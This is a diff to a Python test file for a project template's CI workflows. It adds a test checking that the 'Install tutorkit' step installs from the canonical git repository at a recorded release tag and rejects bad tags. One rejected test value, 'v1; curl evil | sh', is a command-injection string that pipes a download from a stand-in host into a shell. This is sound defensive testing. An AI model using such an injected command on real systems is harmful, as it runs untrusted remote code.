@@ -60,6 +60,8 @@ INSTALLED_SUITE = (
 EXERCISED_BY = {
     "test_tool_pins_match_the_tested_tools": [
         ("notebooks.yml", "hygiene", "Install pre-commit"),
+    ],
+    "test_template_update_installs_tutorkit_from_its_repository_at_the_recorded_tag": [
         ("template-update.yml", "update", "Install tutorkit"),
     ],
     "test_hygiene_fails_on_a_notebook_with_outputs": [
@@ -219,22 +221,44 @@ def test_every_run_step_is_exercised(variants):
 
 
 def test_tool_pins_match_the_tested_tools(variants):
-    """The workflows install the pre-commit release these tests run, and a range of tutorkit
-    releases that holds the tutorkit these tests run."""
+    """The workflows install the pre-commit release these tests run."""
     from importlib.metadata import version
-
-    from packaging.requirements import Requirement
-
-    import tutorkit
 
     rendered = variants[VARIANTS[0]]
     found = step(rendered, "notebooks.yml", "hygiene", "Install pre-commit")
     assert found["run"] == f'python -m pip install "pre-commit=={version("pre-commit")}"'
+
+
+
+def test_template_update_installs_tutorkit_from_its_repository_at_the_recorded_tag(
+    variants, tmp_path
+):
+    """The install step runs with a recording `python` stand-in: it installs tutorkit from the
+    template's canonical git repository at the release tag the answers file records (never a
+    name from the package index), and refuses a `_commit` that is not a release tag."""
+    rendered = variants[VARIANTS[0]]
     found = step(rendered, "template-update.yml", "update", "Install tutorkit")
-    command = found["run"].split()
-    assert command[:4] == ["python", "-m", "pip", "install"]
-    (wanted,) = [Requirement(word.strip('"')) for word in command[4:]]
-    assert wanted.name == "tutorkit" and wanted.specifier.contains(tutorkit.__version__)
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    recorder = bin_dir / "python"
+    recorder.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path / "args"}\n')
+    recorder.chmod(0o755)
+    environment = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
+    command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", found["run"]]
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    for tag, ok in (("v0.3.1", True), ("main", False), ("v1; curl evil | sh", False)):
+        (repo / ".copier-answers.yml").write_text(f"_commit: {tag}\n_src_path: x\n")
+        (tmp_path / "args").unlink(missing_ok=True)
+        done = subprocess.run(command, cwd=repo, env=environment, capture_output=True, text=True)
+        if ok:
+            assert done.returncode == 0, done.stderr
+            args = (tmp_path / "args").read_text().split("\n")[:4]
+            wanted = "tutorkit @ git+https://github.com/tutorkit/tutorkit.git@v0.3.1"
+            assert args == ["-m", "pip", "install", wanted]
+        else:
+            assert done.returncode == 1 and not (tmp_path / "args").exists()
+            assert "records no release tag" in done.stdout
 
 
 # --- template-update: the pull request, the dispatched check, held-back workflow changes ---
